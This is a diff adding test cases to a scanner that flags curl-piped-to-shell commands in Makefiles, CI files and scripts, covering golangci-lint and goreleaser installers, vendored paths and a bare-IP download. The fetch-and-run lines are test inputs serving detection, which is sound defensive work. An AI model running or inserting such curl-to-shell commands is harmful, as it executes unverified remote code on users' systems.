@@ -45,4 +45,24 @@ describe('curl-pipe-shell in scripts and task files', () => {
     expect(found('Makefile', ['\tcurl -fsSL https://get.tool.dev/install.sh | sh'], ['\tcurl -fsSL https://get.tool.dev/setup.sh | sh'])).toEqual(['medium Makefile:2']);
     expect(found('Makefile', ['\tcurl -sSL http://10.0.0.1/i.sh | sh'], ['\tcurl -sSL http://45.61.136.13/i.sh | sh'])).toEqual(['high Makefile:2']);
   });
+
+  it("is quiet on the same repository's script at another ref (golangci-lint #5377: master to HEAD), and reports another repository or file", () => {
+    const raw = (ref: string, owner = 'golangci', file = 'install.sh') => `\tcurl -sSfL https://raw.githubusercontent.com/${owner}/golangci-lint/${ref}/${file} | sh`;
+    expect(found('scripts/bench/bench_local.sh', [raw('master')], [raw('HEAD')])).toEqual([]);
+    expect(found('Makefile', [raw('refs/heads/main')], [raw('v2.1.0')])).toEqual([]);
+    expect(found('Makefile', ['\tcurl -fsSL https://github.com/acme/tool/raw/main/install.sh | bash'], ['\tcurl -fsSL https://github.com/acme/tool/raw/v3.0.0/install.sh | bash'])).toEqual([]);
+    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci-fork')])).toEqual(['medium Makefile:2']);
+    expect(found('Makefile', [raw('master')], [raw('HEAD', 'golangci', 'setup.sh')])).toEqual(['medium Makefile:2']);
+    // Another host is another source, even the project's own domain.
+    expect(found('Makefile', [raw('HEAD')], ['\tcurl -sSfL https://golangci-lint.run/install.sh | sh'])).toEqual(['medium Makefile:2']);
+  });
+
+  it("is quiet on a vendored dependency's own CI pipeline and Makefile (golangci-lint's vendor/ of 2018), not on its scripts or on the project's own files", () => {
+    const vendored = (path: string) => scriptDownloadFindings(makeFile(path, { patch: patchOf([], ['    - curl -sL https://git.io/goreleaser | bash']) }), true).map((f) => f.path);
+    expect(vendored('vendor/github.com/goreleaser/nfpm/.travis.yml')).toEqual([]);
+    expect(vendored('vendor/github.com/goreleaser/goreleaser/Makefile')).toEqual([]);
+    expect(vendored('third_party/tool/scripts/install.sh')).toEqual(['third_party/tool/scripts/install.sh']);
+    expect(found('.travis.yml', [], ['    - curl -sL https://git.io/goreleaser | bash'])).toEqual(['high .travis.yml:2']);
+  });
 });
+
